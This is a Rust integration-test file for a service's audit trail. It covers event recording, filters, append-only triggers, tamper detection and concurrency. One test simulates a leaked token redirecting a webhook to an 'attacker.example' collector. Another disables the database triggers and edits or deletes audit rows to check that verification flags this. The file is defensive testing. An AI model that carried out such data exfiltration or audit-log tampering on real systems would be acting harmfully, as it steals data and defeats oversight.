//! The audit trail: what a leaked token did, every mutation's event, the
//! filters, append-only triggers, tamper detection by `audit verify` (the
//! library and the real binary), and a linear chain under concurrency.

use std::collections::BTreeSet;
use std::time::Duration;

use serde_json::{json, Value};

use crate::api_helpers::*;
use crate::support::{json, TestApp};
use test_support::db::is_postgres;

fn types(events: &[Value]) -> Vec<&str> {
    events.iter().map(|e| e["type"].as_str().unwrap()).collect()
}

fn id(v: &Value) -> String {
    v["id"].as_str().unwrap().to_string()
}

#[tokio::test]
async fn a_leaked_tokens_actions_and_revocation_are_all_in_the_trail() {
    let app = TestApp::spawn().await;
    let ws = app.workspace("Acme", "owner@acme.test").await;
    let owner = &ws.owner_token;
    let (leaked, leaked_id) = app.mint(&ws, "laptop", "member").await;
    let (bystander, _) = app.mint(&ws, "ci", "member").await;

    // Noise by others, before and during.
    create_source(&app, owner, "owners-source").await;
    let web = create_source(&app, &leaked, "web").await;
    create_source(&app, &bystander, "ci-source").await;
    let api = create_source(&app, &leaked, "api").await;
    let res = app
        .patch(
            &format!("/sources/{}", id(&web)),
            &leaked,
            &json!({ "name": "Web (exfil)", "settings": { "trackPageViews": false } }),
        )
        .await;
    assert_eq!(res.status(), 200);
    let hook = create_destination(&app, &leaked, &id(&api)).await;
    let res = app
        .patch(
            &format!("/destinations/{}", id(&hook)),
            &leaked,
            &json!({ "settings": { "url": "https://attacker.example/collect", "sharedSecret": "stolen" }, "enabled": true }),
        )
        .await;
    assert_eq!(res.status(), 200);
    // Reads and refused calls are not actions.
    assert_eq!(app.get("/sources", &leaked).await.status(), 200);
    assert_eq!(app.get("/tokens", &leaked).await.status(), 403);

    let feedback = app.report(&[&leaked]).await;
    assert_eq!(feedback[0]["label"], "true_positive");
    assert_eq!(app.get("/sources", &leaked).await.status(), 401);
    // And a write attempted after the revocation changes nothing.
    let res = app
        .delete(&format!("/destinations/{}", id(&hook)), &leaked)
        .await;
    assert_eq!(res.status(), 401);

    let actor = format!("public-api-token/{leaked_id}");
    let data = get_data(&app, &format!("/audit-events?actor={actor}"), owner).await;
    let events = data["events"].as_array().unwrap();
    assert_eq!(
        types(events),
        [
            "Token Revoked",
            "Destination Modified",
            "Destination Created",
            "Source Modified",
            "Source Created",
            "Source Created",
        ]
    );
    assert_eq!(data["pagination"]["totalEntries"], 6);
    let revoked = &events[0];
    assert_eq!(revoked["actor"], "github-secret-scanning");
    assert_eq!(revoked["resourceType"], "token");
    assert_eq!(revoked["resourceId"], leaked_id.as_str());
    assert_eq!(revoked["resourceName"], "laptop");
    let expected_resources = [id(&hook), id(&hook), id(&web), id(&api), id(&web)];
    for (event, resource) in events[1..].iter().zip(&expected_resources) {
        assert_eq!(event["actor"], actor.as_str());
        assert_eq!(event["resourceId"], resource.as_str());
        let keys: BTreeSet<&str> = event
            .as_object()
            .unwrap()
            .keys()
            .map(|k| k.as_str())
            .collect();
        assert_eq!(
            keys,
            BTreeSet::from([
                "id",
                "timestamp",
                "type",
                "actor",
                "resourceId",
                "resourceType",
                "resourceName",
                "details"
            ])
        );
    }
    // What changed is recorded, but never a secret's value.
    assert_eq!(
        events[3]["details"]["changes"],
        json!({
            "name": { "from": "web", "to": "Web (exfil)" },
            "settings": { "changedKeys": ["trackPageViews"] }
        })
    );
    assert_eq!(
        events[1]["details"]["changes"]["settings"],
        json!({ "changedKeys": ["sharedSecret", "url"] })
    );
    assert!(!data.to_string().contains("stolen"));

    // Timestamps are RFC 3339 and newest first.
    let times: Vec<chrono::DateTime<chrono::FixedOffset>> = events
        .iter()
        .map(|e| chrono::DateTime::parse_from_rfc3339(e["timestamp"].as_str().unwrap()).unwrap())
        .collect();
    assert!(times.windows(2).all(|w| w[0] >= w[1]));
}

#[tokio::test]
async fn every_mutation_writes_its_event() {
    let app = TestApp::spawn().await;
    let ws = app.workspace("Acme", "owner@acme.test").await;
    let owner = &ws.owner_token;
    let owner_actor = format!("public-api-token/{}", ws.owner_token_id);
    let newest = || async { audit_events(&app, owner, "pagination[count]=1").await[0].clone() };
    let check = |event: Value, kind: &str, resource_type: &str, resource_id: &str, name: &str| {
        assert_eq!(event["type"], kind, "{event}");
        assert_eq!(event["resourceType"], resource_type, "{event}");
        assert_eq!(event["resourceId"], resource_id, "{event}");
        assert_eq!(event["resourceName"], name, "{event}");
        assert_eq!(event["actor"], owner_actor.as_str(), "{event}");
        event
    };

    let source = create_source(&app, owner, "web").await;
    let e = check(
        newest().await,
        "Source Created",
        "source",
        &id(&source),
        "web",
    );
    assert_eq!(e["details"]["slug"], "web");
    let path = format!("/sources/{}", id(&source));
    app.patch(&path, owner, &json!({ "enabled": false })).await;
    let e = check(
        newest().await,
        "Source Modified",
        "source",
        &id(&source),
        "web",
    );
    assert_eq!(
        e["details"]["changes"],
        json!({ "enabled": { "from": true, "to": false } })
    );

    let destination = create_destination(&app, owner, &id(&source)).await;
    let e = check(
        newest().await,
        "Destination Created",
        "destination",
        &id(&destination),
        "Webhooks",
    );
    assert_eq!(e["details"]["sourceId"], id(&source).as_str());
    assert!(!e.to_string().contains("hunter2"));
    let dpath = format!("/destinations/{}", id(&destination));
    app.patch(&dpath, owner, &json!({ "name": "Hooks" })).await;
    check(
        newest().await,
        "Destination Modified",
        "destination",
        &id(&destination),
        "Hooks",
    );
    app.delete(&dpath, owner).await;
    check(
        newest().await,
        "Destination Deleted",
        "destination",
        &id(&destination),
        "Hooks",
    );
    app.delete(&path, owner).await;
    check(
        newest().await,
        "Source Deleted",
        "source",
        &id(&source),
        "web",
    );

    let (_, token_id) = app.mint(&ws, "ci", "member").await;
    let e = check(newest().await, "Token Created", "token", &token_id, "ci");
    assert_eq!(e["details"]["role"], "member");
    app.delete(&format!("/tokens/{token_id}"), owner).await;
    check(newest().await, "Token Revoked", "token", &token_id, "ci");

    let res = app
        .post(
            "/users",
            owner,
            &json!({ "email": "dev@acme.test", "role": "member" }),
        )
        .await;
    let user = json(res).await["data"]["user"].clone();
    check(
        newest().await,
        "User Added",
        "user",
        &id(&user),
        "dev@acme.test",
    );
    let upath = format!("/users/{}", id(&user));
    app.patch(&upath, owner, &json!({ "role": "read_only" }))
        .await;
    let e = check(
        newest().await,
        "User Modified",
        "user",
        &id(&user),
        "dev@acme.test",
    );
    assert_eq!(e["details"]["previousRole"], "member");
    app.delete(&upath, owner).await;
    check(
        newest().await,
        "User Removed",
        "user",
        &id(&user),
        "dev@acme.test",
    );

    // 2 from the workspace's creation and the 11 above: nothing else.
    assert_eq!(audit_count(&app).await, 13);
    // No API changes the trail.
    for method in ["POST", "PATCH", "PUT", "DELETE"] {
        for path in ["/audit-events", "/audit-events/x"] {
            let res = app
                .client
                .request(method.parse().unwrap(), app.url(path))
                .bearer_auth(owner)
                .json(&json!({}))
                .send()
                .await
                .unwrap();
            // The trail's own path has GET only; nothing lies below it.
            if path == "/audit-events" {
                assert_eq!(res.status(), 405, "{method} {path}");
                assert_eq!(res.headers()["allow"], "GET", "{method} {path}");
            } else {
                assert_eq!(res.status(), 404, "{method} {path}");
            }
        }
    }
    assert_eq!(audit_count(&app).await, 13);
}

#[tokio::test]
async fn filters_narrow_the_trail_and_bad_filters_are_all_reported() {
    let app = TestApp::spawn().await;
    let ws = app.workspace("Acme", "owner@acme.test").await;
    let owner = &ws.owner_token;
    let pause = || tokio::time::sleep(Duration::from_millis(30));
    let now = || chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Micros, true);

    let first = create_source(&app, owner, "first").await;
    pause().await;
    let t1 = now();
    pause().await;
    let second = create_source(&app, owner, "second").await;
    create_destination(&app, owner, &id(&second)).await;
    pause().await;
    let t2 = now();
    pause().await;
    let (member, member_id) = app.mint(&ws, "ci", "member").await;
    app.patch(
        &format!("/sources/{}", id(&first)),
        &member,
        &json!({ "name": "First" }),
    )
    .await;

    let q = |query: &str| {
        let query = query.to_string();
        let app = &app;
        async move { audit_events(app, owner, &query).await }
    };
    let encoded = |t: &str| url::form_urlencoded::byte_serialize(t.as_bytes()).collect::<String>();

    let after_t1 = q(&format!("startTime={}", encoded(&t1))).await;
    assert_eq!(
        types(&after_t1),
        [
            "Source Modified",
            "Token Created",
            "Destination Created",
            "Source Created"
        ]
    );
    let before_t2 = q(&format!("endTime={}", encoded(&t2))).await;
    assert_eq!(
        types(&before_t2),
        [
            "Destination Created",
            "Source Created",
            "Source Created",
            "Token Created",
            "User Added"
        ]
    );
    let between = q(&format!(
        "startTime={}&endTime={}",
        encoded(&t1),
        encoded(&t2)
    ))
    .await;
    assert_eq!(types(&between), ["Destination Created", "Source Created"]);
    // Any offset means the same instant.
    let t1_offset = chrono::DateTime::parse_from_rfc3339(&t1)
        .unwrap()
        .with_timezone(&chrono::FixedOffset::east_opt(2 * 3600).unwrap())
        .to_rfc3339();
    assert_eq!(
        q(&format!("startTime={}", encoded(&t1_offset))).await,
        after_t1
    );

    let about_first = q(&format!("resourceId={}", id(&first))).await;
    assert_eq!(types(&about_first), ["Source Modified", "Source Created"]);
    let destinations = q("resourceType=destination").await;
    assert_eq!(types(&destinations), ["Destination Created"]);
    let by_member = q(&format!("actor=public-api-token/{member_id}")).await;
    assert_eq!(types(&by_member), ["Source Modified"]);
    let by_cli = q("actor=cli").await;
    assert_eq!(types(&by_cli), ["Token Created", "User Added"]);
    let combined = q(&format!(
        "resourceType=source&actor=public-api-token/{}",
        ws.owner_token_id
    ))
    .await;
    assert_eq!(types(&combined), ["Source Created", "Source Created"]);
    assert!(q("resourceId=nothing-has-this-id").await.is_empty());

    // Every bad value at once.
    let res = app
        .get(
            "/audit-events?startTime=yesterday&endTime=2024-13-01T00:00:00Z&resourceType=banana\
             &resourceId=&actor=&resourceID=x&pagination[count]=0",
            owner,
        )
        .await;
    assert_eq!(res.status(), 422);
    let errors = errors_by_field(&json(res).await);
    assert_eq!(
        errors.keys().map(String::as_str).collect::<Vec<_>>(),
        [
            "actor",
            "endTime",
            "pagination.count",
            "resourceID",
            "resourceId",
            "resourceType",
            "startTime"
        ]
    );
    assert!(errors["startTime"].contains("RFC 3339"));
    assert!(errors["resourceType"]
        .contains("source, destination, warehouse, tracking_plan, label, token, user"));
    let res = app
        .get(
            &format!(
                "/audit-events?startTime={}&endTime={}",
                encoded(&t2),
                encoded(&t1)
            ),
            owner,
        )
        .await;
    assert_eq!(res.status(), 422);
    assert!(errors_by_field(&json(res).await)["endTime"].contains("before startTime"));
    // Members cannot read the trail at all.
    assert_eq!(app.get("/audit-events", &member).await.status(), 403);
}

/// Runs `leakguard audit verify` against the test's database.
async fn verify_with_binary(app: &TestApp) -> (bool, String) {
    let db_url = app.db_url.clone();
    let dir = app.dir.path().to_path_buf();
    tokio::task::spawn_blocking(move || {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_leakguard"))
            .args(["audit", "verify"])
            .current_dir(dir)
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .env("LEAKGUARD_DATABASE_URL", db_url)
            .env("LEAKGUARD_LOG_FORMAT", "json")
            .output()
            .expect("the binary runs");
        let text = String::from_utf8_lossy(&out.stdout).to_string()
            + &String::from_utf8_lossy(&out.stderr);
        (out.status.success(), text)
    })
    .await
    .unwrap()
}

async fn event_id(app: &TestApp, workspace_id: &str, seq: i64) -> String {
    use sqlx::Row;
    sqlx::query("SELECT id FROM audit_events WHERE workspace_id = $1 AND seq = $2")
        .bind(workspace_id)
        .bind(seq)
        .fetch_one(app.test_db.pool())
        .await
        .unwrap()
        .get(0)
}

#[tokio::test]
async fn the_trail_is_append_only_and_tampering_is_detected() {
    let app = TestApp::spawn().await;
    let edited = app.workspace("Edited", "owner@edited.test").await;
    let removed = app.workspace("Removed", "owner@removed.test").await;
    let truncated = app.workspace("Truncated", "owner@truncated.test").await;
    for ws in [&edited, &removed, &truncated] {
        for i in 0..3 {
            create_source(&app, &ws.owner_token, &format!("s{i}")).await;
        }
    }
    assert_eq!(
        leakguard::audit::verify(&app.db).await.unwrap(),
        (3, vec![])
    );
    let (ok, output) = verify_with_binary(&app).await;
    assert!(ok, "{output}");
    assert!(output.contains("intact"), "{output}");

    // The database itself refuses to change history.
    for sql in [
        "UPDATE audit_events SET resource_name = 'nothing to see'".to_string(),
        format!(
            "DELETE FROM audit_events WHERE workspace_id = '{}' AND seq = 5",
            edited.id
        ),
    ] {
        let err = app.test_db.execute(&sql).await.expect_err(&sql);
        assert!(err.to_string().contains("append-only"), "{sql}: {err}");
    }
    if is_postgres() {
        let err = app
            .test_db
            .execute("TRUNCATE audit_events")
            .await
            .expect_err("truncate");
        assert!(err.to_string().contains("append-only"), "{err}");
    }
    assert_eq!(audit_count(&app).await, 15);

    // An attacker with database access goes around the triggers...
    if is_postgres() {
        app.test_db
            .execute("ALTER TABLE audit_events DISABLE TRIGGER USER")
            .await
            .unwrap();
    } else {
        app.test_db
            .execute("DROP TRIGGER audit_events_no_update")
            .await
            .unwrap();
        app.test_db
            .execute("DROP TRIGGER audit_events_no_delete")
            .await
            .unwrap();
    }
    let edited_event = event_id(&app, &edited.id, 3).await;
    let n = app
        .test_db
        .execute(&format!(
            "UPDATE audit_events SET resource_name = 'nothing to see'
             WHERE workspace_id = '{}' AND seq = 3",
            edited.id
        ))
        .await
        .unwrap();
    assert_eq!(n, 1);
    let (_, breaks) = leakguard::audit::verify(&app.db).await.unwrap();
    assert_eq!(breaks.len(), 1);
    assert_eq!(breaks[0].workspace_id, edited.id);
    assert_eq!(breaks[0].seq, 3);
    assert_eq!(breaks[0].event_id.as_deref(), Some(edited_event.as_str()));
    assert!(breaks[0].reason.contains("modified"));
    let (ok, output) = verify_with_binary(&app).await;
    assert!(!ok, "{output}");
    assert!(output.contains(&edited_event), "names the event: {output}");
    assert!(output.contains(&edited.id), "{output}");

    // ...removes an event in the middle of another chain...
    app.test_db
        .execute(&format!(
            "DELETE FROM audit_events WHERE workspace_id = '{}' AND seq = 2",
            removed.id
        ))
        .await
        .unwrap();
    // ...and the newest event of a third (only the head gives that away).
    app.test_db
        .execute(&format!(
            "DELETE FROM audit_events WHERE workspace_id = '{}' AND seq = 5",
            truncated.id
        ))
        .await
        .unwrap();
    let (_, breaks) = leakguard::audit::verify(&app.db).await.unwrap();
    let by_workspace = |ws: &str| breaks.iter().find(|b| b.workspace_id == ws).unwrap();
    assert_eq!(breaks.len(), 3);
    let gap = by_workspace(&removed.id);
    assert_eq!(gap.seq, 2);
    assert!(gap.reason.contains("missing"), "{}", gap.reason);
    let cut = by_workspace(&truncated.id);
    assert_eq!(cut.seq, 5);
    assert!(cut.reason.contains("records 5 events"), "{}", cut.reason);
    let (ok, output) = verify_with_binary(&app).await;
    assert!(!ok);
    for ws in [&edited, &removed, &truncated] {
        assert!(output.contains(&ws.id), "{output}");
    }
    assert!(
        output.contains(&format!("workspace {} at event 2", removed.id)),
        "{output}"
    );
}

#[tokio::test]
async fn concurrent_writers_keep_the_chain_linear() {
    let app = TestApp::spawn().await;
    let ws = app.workspace("Acme", "owner@acme.test").await;
    let (member, _) = app.mint(&ws, "ci", "member").await;

    let creations = (0..20).map(|i| {
        let (app, member) = (&app, &member);
        async move {
            let res = app
                .post(
                    "/sources",
                    member,
                    &json!({ "slug": format!("s{i}"), "enabled": true, "metadataId": source_kind() }),
                )
                .await;
            res.status().as_u16()
        }
    });
    let statuses = futures_util::future::join_all(creations).await;
    assert!(statuses.iter().all(|s| *s == 201), "{statuses:?}");

    // Concurrent PATCHes of different settings of one warehouse: every
    // one lands (no lost update from merging into a stale copy).
    let res = app
        .post(
            "/warehouses",
            &member,
            &json!({ "metadataId": snowflake_kind(), "settings": snowflake_settings() }),
        )
        .await;
    assert_eq!(res.status(), 201);
    let warehouse = json(res).await["data"]["warehouse"].clone();
    let path = format!("/warehouses/{}", id(&warehouse));
    let keys = ["account", "warehouse", "database", "username", "role"];
    let patches = keys.iter().map(|key| {
        let (app, member, path) = (&app, &member, &path);
        async move {
            app.patch(
                path,
                member,
                &json!({ "settings": { *key: format!("new-{key}") } }),
            )
            .await
            .status()
            .as_u16()
        }
    });
    let statuses = futures_util::future::join_all(patches).await;
    assert!(statuses.iter().all(|s| *s == 200), "{statuses:?}");
    let settings = get_data(&app, &path, &member).await["warehouse"]["settings"].clone();
    for key in keys {
        assert_eq!(settings[key], format!("new-{key}"), "{settings}");
    }

    // Deleting a source while a destination is attached to it: one of the
    // two wins, never both.
    for round in 0..5 {
        let source = create_source(&app, &member, &format!("race{round}")).await;
        let source_path = format!("/sources/{}", id(&source));
        let delete = app.delete(&source_path, &member);
        let body = json!({ "sourceId": id(&source), "metadataId": destination_kind() });
        let attach = app.post("/destinations", &member, &body);
        let (deleted, attached) = tokio::join!(delete, attach);
        let outcome = (deleted.status().as_u16(), attached.status().as_u16());
        assert!(
            outcome == (200, 422) || outcome == (409, 201),
            "round {round}: {outcome:?}"
        );
    }

    let total = app
        .count(&format!(
            "SELECT COUNT(*) FROM audit_events WHERE workspace_id = '{}'",
            ws.id
        ))
        .await;
    let max = app
        .count(&format!(
            "SELECT MAX(seq) FROM audit_events WHERE workspace_id = '{}'",
            ws.id
        ))
        .await;
    assert_eq!(total, max, "sequence numbers without gaps or duplicates");
    let (checked, breaks) = leakguard::audit::verify(&app.db).await.unwrap();
    assert_eq!((checked, breaks), (1, vec![]));
    let created = audit_events(
        &app,
        &ws.owner_token,
        "resourceType=source&pagination[count]=1000",
    )
    .await;
    assert!(
        types(&created)
            .iter()
            .filter(|t| **t == "Source Created")
            .count()
            >= 20
    );
}
